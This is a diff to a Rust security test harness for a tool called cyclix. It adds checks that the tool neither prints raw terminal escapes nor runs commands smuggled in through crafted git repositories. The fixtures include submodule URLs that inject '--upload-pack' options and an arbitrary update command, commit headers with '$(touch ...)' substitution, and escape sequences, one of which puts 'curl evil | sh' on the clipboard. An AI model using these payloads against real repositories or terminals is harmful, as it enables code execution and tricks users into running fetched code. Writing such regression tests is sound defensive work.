@@ -301,6 +301,9 @@ fn attack(
     .trim()
     .to_string();
     let before = snapshot(tb, &t, "");
+    let since = expect_success(&tb.user_sh("date +%s"), "the time")
+        .trim()
+        .to_string();
     let t0 = Instant::now();
     let run = start(tb, &t);
     let secs = t0.elapsed().as_secs_f64();
@@ -334,6 +337,24 @@ fn attack(
         if !left.trim().is_empty() {
             failures.push(format!("run {run_id} left behind:\n{left}"));
         }
+    }
+    // What cyclix printed (the run unit's journal, `cyclix status`) must not carry the
+    // agent's terminal escape sequences raw (title, clear screen, OSC 8 links, OSC 52 clipboard).
+    let printed = expect_success(
+        &tb.user_sh(&format!(
+            "journalctl --user -u cyclix-run@{t}.service --since @{since} -o cat -a --no-pager; \
+             {c} status {t} 2>&1; true",
+            c = tb.cyclix_bin()
+        )),
+        "what cyclix printed",
+    );
+    let raw: Vec<&str> = printed.lines().filter(|l| l.contains('\u{1b}')).collect();
+    if !raw.is_empty() {
+        failures.push(format!(
+            "cyclix printed the agent's terminal escapes raw ({} lines), e.g. {:?}",
+            raw.len(),
+            raw.iter().take(3).collect::<Vec<_>>()
+        ));
     }
     let after_run = markers(tb, "cyclix-pwned", name);
     if !after_run.trim().is_empty() {
@@ -737,12 +758,15 @@ cat > .gitmodules <<EOF
 [submodule "evil2"]
 	path = evil2
 	url = --upload-pack=touch /tmp/cyclix-pwned-$N
+[submodule "evil4"]
+	path = evil4
+	url = $(printf '\033]0;pwned\007\033[2J-x')
 [submodule "evil3"]
 	path = evil3
 	url = /home/cyx/src/$T/.git
 	update = !$M
 EOF
-for p in evil evil2 evil3; do git update-index --add --cacheinfo "160000,$BASE,$p"; done
+for p in evil evil2 evil3 evil4; do git update-index --add --cacheinfo "160000,$BASE,$p"; done
 git add .gitattributes .gitmodules && git commit -qm "submodules and attributes" && say "committed"
 "#,
         // The host's fetch runs fsck, which refuses a `.gitmodules` with a hostile url or
@@ -770,7 +794,7 @@ mk() { git hash-object -t commit -w --literally --stdin; }
 c1=$( { printf 'tree %s\nparent %s\nauthor A <a@a> 1700000000 +0000\ncommitter A <a@a> 1700000000 +0000\nencoding x-evil-$(touch /tmp/cyclix-pwned-%s)\ngpgsig -----BEGIN PGP SIGNATURE-----\n %s\n -----END PGP SIGNATURE-----\n\n' $TR $P "$N" "$(head -c 300 /dev/urandom | base64 -w0)"
   printf 'pgp \033]0;pwned\007\033[2J\033[31m red \377\376 bad utf8 \033]8;;file:///etc/passwd\033\\link\033]8;;\033\\\n\nbody\n'; } | mk)
 c2=$( { printf 'tree %s\nparent %s\nauthor B <b@b> 1700000001 +0000\ncommitter B <b@b> 1700000001 +0000\ngpgsig -----BEGIN SSH SIGNATURE-----\n U1NIU0lH\n -----END SSH SIGNATURE-----\nmergetag object %s\n type commit\n tag x\n\n' $TR $c1 $P
-  printf 'ssh \033[?1049h\033[8m hidden\n'; } | mk)
+  printf 'ssh \033[?1049h\033[8m hidden \033]52;c;%s\007\n' "$(printf 'curl evil | sh' | base64 -w0)"; } | mk)
 c3=$( { printf 'tree %s\nparent %s\nauthor C <c@c> 1700000002 +0000\ncommitter C <c@c> 1700000002 +0000\ngpgsig -----BEGIN SIGNED MESSAGE-----\n MIIB\n -----END SIGNED MESSAGE-----\ngpgsig-sha256 -----BEGIN PGP SIGNATURE-----\n x\n -----END PGP SIGNATURE-----\n\n' $TR $c2
   printf 'x509 \033P+q544e\033\\ %s\n' "$(printf '\302\205\342\200\256')"; } | mk)
 say "crafted $c1 $c2 $c3"
